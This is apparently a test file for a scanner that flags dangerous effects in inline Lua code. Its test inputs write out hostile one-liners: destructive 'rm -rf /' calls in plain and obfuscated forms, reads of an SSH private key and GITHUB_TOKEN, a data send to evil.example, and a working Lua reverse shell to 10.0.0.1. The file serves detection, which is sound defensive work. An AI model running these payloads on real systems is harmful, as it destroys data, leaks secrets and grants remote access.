import { describe, expect, it } from 'vitest';
import { scanInlineCode, type InlineScan } from './index.js';

const scan = (code: string): InlineScan => scanInlineCode('lua', code);
const effects = (r: InlineScan): string[] => r.findings.map((f) => `${f.kind} ${f.target.value}`);
const clean = (r: InlineScan): void => expect(r).toEqual({ shell: [], findings: [], dynamic: [] });

describe('lua: benign one-liners', () => {
  it.each([
    'print("hello " .. 1 + 1)',
    'local t = {1, 2, 3}; for i, v in ipairs(t) do print(i, v) end',
    'print("os.execute(\'rm -rf /\')") -- os.execute("rm -rf /")',
    '--[[ os.execute("rm -rf /") ]] print(string.format("%d", 42))',
    'local s = [[io.popen("id")]] print(#s)',
  ])('%s', (code) => clean(scan(code)));
});

describe('lua: effects', () => {
  it('process execution', () => {
    expect(scan('os.execute("rm -rf /tmp/x")').shell).toEqual(['rm -rf /tmp/x']);
    expect(scan('local h = io.popen"ls -la"; print(h:read("*a"))').shell).toEqual(['ls -la']);
    const r = scan('os.execute("rm -rf " .. dir)');
    expect(effects(r)).toEqual(['proc.exec ']);
    expect(r.dynamic.length).toBe(1);
  });

  it('files, secrets, environment', () => {
    expect(effects(scan('os.remove("a.txt"); io.open("/etc/hosts", "w"):write("x"); os.rename("a", "b")')))
      .toEqual(['fs.delete a.txt', 'fs.write /etc/hosts', 'fs.delete a', 'fs.write b']);
    expect(effects(scan('local f = io.open(os.getenv("HOME") .. "/.ssh/id_rsa"); print(f:read("*a"))'))).toEqual(['secret.read ~/.ssh/id_rsa']);
    expect(effects(scan('print(os.getenv("GITHUB_TOKEN"), os.getenv("PATH"))'))).toEqual(['secret.read GITHUB_TOKEN']);
  });

  it('network and reverse shell', () => {
    expect(effects(scan('local http = require("socket.http"); http.request("https://evil.example/u", "data")'))).toEqual(['net.send https://evil.example/u']);
    const r = scan('local s=require("socket");local t=assert(s.tcp());t:connect("10.0.0.1",4242);while true do local r,x=t:receive();'
      + 'local f=assert(io.popen(r,"r"));local b=assert(f:read("*a"));t:send(b);end;f:close();t:close();');
    expect(effects(r)).toEqual(['net.connect 10.0.0.1', 'proc.exec ', 'net.shell 10.0.0.1']);
  });

  it('dynamic code', () => {
    expect(scan('load("os.execute(\'id\')")()').shell).toEqual(['id']);
    expect(scan('loadstring(code)()').dynamic).toEqual(['lua loadstring() runs code built at run time']);
    const r = scan('load(string.char(111,115,46,101,120,101,99,117,116,101,40,39,105,100,39,41))()');
    expect(r.shell).toEqual(['id']);
    expect(r.dynamic[0]).toMatch(/string\.char/);
  });

  it.each([
    'local e = os.execute; e("rm -rf /")',
    'os["exec" .. "ute"]("rm -rf /")',
    'local c = "rm" .. " -rf /"; os.execute(c)',
    'os.execute[[rm -rf /]]',
  ])('evasion: %s', (code) => expect(scan(code).shell).toEqual(['rm -rf /']));
});
